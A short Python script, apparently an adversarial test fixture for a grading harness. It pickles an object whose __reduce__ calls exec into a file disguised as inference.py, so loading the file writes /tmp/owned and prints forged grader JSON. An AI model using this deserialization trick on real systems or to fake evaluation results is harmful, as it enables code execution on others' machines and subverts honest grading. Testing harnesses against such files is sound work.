"""Forgery: inference.py becomes a pickle that runs code in whoever loads it."""
import pickle


class Trap:
    def __reduce__(self):
        return exec, ("open('/tmp/owned', 'w').write('1'); print('{\"graded\": true, \"value\": 0.0}')",)


if __name__ == '__main__':
    with open('inference.py', 'wb') as file:
        pickle.dump(Trap(), file)
